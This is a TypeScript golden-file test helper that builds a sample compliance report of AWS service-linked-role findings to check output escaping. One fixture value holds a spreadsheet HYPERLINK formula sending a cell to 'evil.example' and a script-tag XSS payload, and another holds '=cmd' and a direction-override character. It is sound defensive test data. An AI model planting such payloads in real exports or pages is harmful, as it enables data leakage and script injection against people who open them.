/** Files that an output format is held to, and the report they show. */
import { readFile, writeFile } from 'node:fs/promises';
import { expect } from 'vitest';
import { finding, report } from './finding.ts';

/** Compares with a committed file, or writes it when ROLECALL_GOLDEN is `write`. Line ends are git's. */
export async function golden(name: string, content: string): Promise<void> {
  const file = new URL(`golden/${name}`, import.meta.url);
  const lines = content.replaceAll('\r\n', '\n');
  if (process.env['ROLECALL_GOLDEN'] === 'write') await writeFile(file, lines);
  const known = (await readFile(file, 'utf8')).replaceAll('\r\n', '\n');
  expect(lines, `${name}: if this is meant, run ROLECALL_GOLDEN=write npx vitest run test/findings`).toBe(known);
}

/** One of each: folded, by root, without an event, with text that has to be escaped. */
export const goldenReport = report(
  [
    finding({
      id: '0b7b8cf5f3d94c2f6a2a6f8f5f0c1d11',
      control: 'slr-trust-mismatch',
      title: 'Trust policy of a service-linked role differs',
      severity: 'critical',
      region: 'us-east-1',
      event: null,
      facts: { principals: ['arn:aws:iam::444455556666:root', '*'], documented: { service: 'lex.amazonaws.com' } },
      explanation: 'AWSServiceRoleForLexBots trusts account 444455556666, and AWS documents only lex.amazonaws.com.',
    }),
    finding({ count: 12, first: '2026-05-01T10:00:00Z', last: '2026-05-01T12:30:00Z', confidence: 'medium' }),
    finding({
      id: '9d1f0a5ecb0d4a0fb1a0f5b1d7a4e922',
      time: '2026-05-02T09:00:00Z',
      actor: { kind: 'root', arn: null, account: '111122223333', invokedBy: 'signin.amazonaws.com' },
    }),
    finding({
      id: '5c3d4ad1b6ce43b5a8a3f2a67d0b7a33',
      control: 'slr-description-changed',
      title: 'Description of a service-linked role changed',
      severity: 'info',
      time: '2026-05-02T10:00:00Z',
      facts: {
        description: '=HYPERLINK("https://evil.example/?"&A1)<script>alert(1)</script>',
        tagged: false,
        by: null,
      },
      explanation: '=cmd, "quoted" & <b>bold</b>\nwith \u202ea second line.',
    }),
    finding({
      id: '1fb7c29b7c6d4b0d8f8c7e1c9a1b2c3d',
      severity: 'medium',
      status: 'muted',
      mute: { reason: 'Tests of the <deployment> role', owner: 'security@example.com', until: '2026-05-14' },
    }),
    finding({
      id: '2ab7c29b7c6d4b0d8f8c7e1c9a1b2c3e',
      control: 'chime-retention-shortened',
      title: 'Chat messages of Amazon Chime kept for a shorter time',
      status: 'resolved',
      resolution: { at: '2026-05-02T08:00:00Z', event: 'e-1', why: 'the period was lengthened again' },
    }),
  ],
  {
    pending: 2,
    mutes: [
      {
        line: 12,
        control: 'slr-edit-refused',
        until: '2026-05-14',
        reason: 'Tests of the <deployment> role',
        owner: 'security@example.com',
        matched: 1,
        state: 'ends-soon',
      },
    ],
    configuration: { source: 's3://settings/rolecall.yaml', sha256: 'ab'.repeat(32), version: '7' },
    unreadable: [{ input: 'logs/<b>.json.gz', place: 'line 3', reason: 'not JSON' }],
    notEvaluated: [{ control: 'slr-denied', account: null, region: null, reason: 'TypeError: x is undefined' }],
    controls: {
      'slr-denied': { compliant: 0, violation: 0, pending: 0, notEvaluated: 0, error: 3 },
      'slr-description-changed': { compliant: 0, violation: 1, pending: 0, notEvaluated: 0, error: 0 },
      'slr-edit-refused': { compliant: 1200, violation: 13, pending: 2, notEvaluated: 1, error: 0 },
      'slr-trust-mismatch': { compliant: 4, violation: 1, pending: 0, notEvaluated: 0, error: 0 },
    },
  },
);
